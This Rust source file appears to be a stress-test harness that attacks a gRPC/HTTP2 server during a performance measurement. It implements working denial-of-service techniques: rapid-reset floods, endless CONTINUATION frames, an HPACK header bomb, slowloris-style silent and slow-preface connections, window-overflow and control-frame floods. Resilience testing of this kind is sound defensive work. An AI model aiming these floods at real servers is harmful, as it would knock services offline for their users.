//! Attacks. Each is the life of one connection, and is repeated until the measurement ends.

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::atomic::{AtomicBool, Ordering},
    time::Duration,
};

use crate::harness::{
    PREFACE,
    wire::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
        call_headers, put,
    },
};

const KEEP_ALIVE: &str = "/callboard.v1.RegistryService/KeepAlive";
const LIST: &str = "/callboard.v1.DiscoveryService/ListInstances";
/// Frames that go in one write.
const BATCH: u32 = 64;
/// Silent connections of each attacker.
const SILENT: usize = 1_000;

/// Addresses of the attacked server.
#[derive(Debug, Clone, Copy)]
pub struct Target {
    pub grpc: SocketAddr,
    pub http: SocketAddr,
}

/// One kind of attack.
#[derive(Debug)]
pub struct Attack {
    pub name: &'static str,
    /// Attacks over one connection, until it is closed or the attack ends.
    connection: fn(Target, &AtomicBool) -> io::Result<()>,
}

impl Attack {
    /// Attacks until `over` is set, over one connection after the other.
    pub fn run(&self, target: Target, over: &AtomicBool) {
        // Of this thread alone. A real attacker is another machine: it must not take the core of the server, or that of the measurement.
        rustix::process::nice(19).unwrap();
        while !over.load(Ordering::Relaxed) {
            let _closed = (self.connection)(target, over);
        }
    }
}

pub const ATTACKS: &[Attack] = &[
    Attack { name: "silent connections", connection: silence },
    Attack { name: "one byte of a preface at a time", connection: slow_preface },
    Attack { name: "garbage", connection: garbage },
    Attack {
        name: "HTTP/1 where HTTP/2 is spoken",
        connection: |at, _| ask(at.grpc, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
    },
    Attack { name: "HTTP/2 where HTTP/1 is spoken", connection: |at, _| ask(at.http, PREFACE) },
    Attack { name: "rapid reset", connection: |at, over| flood(at, over, rapid_reset) },
    Attack { name: "CONTINUATION without an end", connection: continuation },
    Attack { name: "DATA of one byte", connection: |at, over| data(at, over, &[0]) },
    Attack { name: "DATA of no bytes", connection: |at, over| data(at, over, &[]) },
    Attack { name: "a header bomb", connection: |at, over| flood(at, over, header_bomb) },
    Attack { name: "SETTINGS", connection: |at, over| flood(at, over, |to, _| put(to, SETTINGS, 0, 0, &[])) },
    Attack { name: "PING", connection: |at, over| flood(at, over, |to, _| put(to, PING, 0, 0, &[7; 8])) },
    Attack {
        name: "PRIORITY",
        connection: |at, over| flood(at, over, |to, id| put(to, PRIORITY, 0, id, &[0, 0, 0, 0, 9])),
    },
    Attack { name: "windows that overflow", connection: |at, over| flood(at, over, overflow) },
    Attack { name: "calls without a window", connection: no_window },
    Attack { name: "messages longer than they may be", connection: |at, over| flood(at, over, huge_message) },
    Attack {
        name: "messages that are not compressed, though they say so",
        connection: |at, over| flood(at, over, compressed),
    },
    Attack { name: "methods that do not exist", connection: |at, over| flood(at, over, no_such_method) },
    Attack { name: "a connection a call", connection: |at, _| ask(at.grpc, &one_call()) },
];

fn open(address: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpStream::connect_timeout(&address, Duration::from_secs(5))?;
    socket.set_write_timeout(Some(Duration::from_millis(200)))?;
    socket.set_read_timeout(Some(Duration::from_millis(200)))?;
    Ok(socket)
}

/// Sends a request, and waits a moment for an answer.
fn ask(address: SocketAddr, request: &[u8]) -> io::Result<()> {
    let mut socket = open(address)?;
    socket.write_all(request)?;
    socket.read(&mut [0; 512]).map(|_| ())
}

/// Sends the same frames again and again, as fast as the server takes them. Its answers are read and discarded.
fn flood(target: Target, over: &AtomicBool, frames: impl Fn(&mut Vec<u8>, u32)) -> io::Result<()> {
    let mut socket = open(target.grpc)?;
    socket.write_all(PREFACE)?;
    let mut answers = socket.try_clone()?;
    answers.set_nonblocking(false)?;
    std::thread::scope(|threads| {
        let reading = threads.spawn(move || while answers.read(&mut [0; 16 * 1024]).is_ok_and(|read| read > 0) {});
        let mut stream = 1;
        let written = loop {
            let mut batch = Vec::new();
            for _ in 0..BATCH {
                frames(&mut batch, stream);
                stream += 2;
            }
            let done = over.load(Ordering::Relaxed) || reading.is_finished();
            if let Err(error) = socket.write_all(&batch) {
                break Err(error);
            }
            if done {
                break Ok(());
            }
        };
        let _gone = socket.shutdown(std::net::Shutdown::Both);
        written
    })
}

fn silence(target: Target, over: &AtomicBool) -> io::Result<()> {
    let open = (0..SILENT).map(|_| open(target.grpc)).collect::<io::Result<Vec<_>>>()?;
    while !over.load(Ordering::Relaxed) {
        // The connections are silent; only this thread has to wait.
        std::thread::park_timeout(Duration::from_millis(50));
    }
    drop(open);
    Ok(())
}

fn slow_preface(target: Target, over: &AtomicBool) -> io::Result<()> {
    let mut sockets = (0..100).map(|_| open(target.grpc)).collect::<io::Result<Vec<_>>>()?;
    for byte in PREFACE {
        for socket in &mut sockets {
            socket.write_all(&[*byte])?;
        }
        if over.load(Ordering::Relaxed) {
            break;
        }
        std::thread::park_timeout(Duration::from_millis(300));
    }
    Ok(())
}

fn garbage(target: Target, _: &AtomicBool) -> io::Result<()> {
    let mut bytes = [0; 4096];
    let mut state = u32::from(target.grpc.port()) | 1;
    for byte in &mut bytes {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        *byte = state.to_be_bytes()[0];
    }
    ask(target.grpc, &bytes)?;
    ask(target.grpc, &[PREFACE, &bytes].concat())?;
    ask(target.http, &bytes)
}

fn rapid_reset(to: &mut Vec<u8>, stream: u32) {
    put(to, HEADERS, END_HEADERS, stream, &call_headers(KEEP_ALIVE));
    put(to, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
}

fn continuation(target: Target, over: &AtomicBool) -> io::Result<()> {
    let mut socket = open(target.grpc)?;
    let mut beginning = PREFACE.to_vec();
    put(&mut beginning, HEADERS, 0, 1, &call_headers(KEEP_ALIVE));
    socket.write_all(&beginning)?;
    // One header in each, so that none of it is padding.
    let header = [&[0, 1][..], b"x", &[127, 0], &[b'y'; 127]].concat();
    let mut more = Vec::new();
    put(&mut more, CONTINUATION, 0, 1, &header.repeat(100));
    while !over.load(Ordering::Relaxed) {
        socket.write_all(&more)?;
    }
    Ok(())
}

/// Sends DATA that never completes a message on one heartbeat stream.
fn data(target: Target, over: &AtomicBool, payload: &[u8]) -> io::Result<()> {
    flood(target, over, |to, stream| {
        if stream == 1 {
            put(to, HEADERS, END_HEADERS, 1, &call_headers(KEEP_ALIVE));
        }
        put(to, DATA, 0, 1, payload);
    })
}

/// Adds a large header to the dynamic table once, and then refers to it thousands of times in a byte each.
fn header_bomb(to: &mut Vec<u8>, stream: u32) {
    let mut headers = call_headers(KEEP_ALIVE);
    // Literal with indexing: a name of one byte, a value of 3,900, whose length is 127 + 3,773 in base 128.
    headers.extend_from_slice(&[0x40, 1, b'x', 127, 0xbd, 0x1d]);
    headers.extend_from_slice(&[b'b'; 3_900]);
    headers.extend_from_slice(&[0xbe; 8_000]);
    put(to, HEADERS, END_HEADERS | END_STREAM, stream, &headers);
}

fn overflow(to: &mut Vec<u8>, stream: u32) {
    put(to, HEADERS, END_HEADERS, stream, &call_headers(KEEP_ALIVE));
    for _ in 0..2 {
        put(to, WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
    }
}

fn no_window(target: Target, over: &AtomicBool) -> io::Result<()> {
    let mut socket = open(target.grpc)?;
    let mut calls = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // INITIAL_WINDOW_SIZE is 0.
    put(&mut calls, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    for number in 0..1_024 {
        let stream = 1 + 2 * number;
        put(&mut calls, HEADERS, END_HEADERS, stream, &call_headers(LIST));
        put(&mut calls, DATA, END_STREAM, stream, b"\0\0\0\0\x08\x0a\x06honest");
    }
    socket.write_all(&calls)?;
    while !over.load(Ordering::Relaxed) {
        match socket.read(&mut [0; 4096]) {
            Ok(0) => break,
            Ok(_) => {}
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

fn huge_message(to: &mut Vec<u8>, stream: u32) {
    put(to, HEADERS, END_HEADERS, stream, &call_headers(KEEP_ALIVE));
    put(to, DATA, 0, stream, &[0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3]);
}

fn compressed(to: &mut Vec<u8>, stream: u32) {
    put(to, HEADERS, END_HEADERS, stream, &call_headers(LIST));
    put(to, DATA, END_STREAM, stream, &[1, 0, 0, 0, 3, 1, 2, 3]);
}

fn no_such_method(to: &mut Vec<u8>, stream: u32) {
    put(to, HEADERS, END_HEADERS | END_STREAM, stream, &call_headers("/no.such.Service/Method"));
}

fn one_call() -> Vec<u8> {
    let mut call = PREFACE.to_vec();
    put(&mut call, HEADERS, END_HEADERS, 1, &call_headers(LIST));
    put(&mut call, DATA, END_STREAM, 1, b"\0\0\0\0\x08\x0a\x06honest");
    call
}
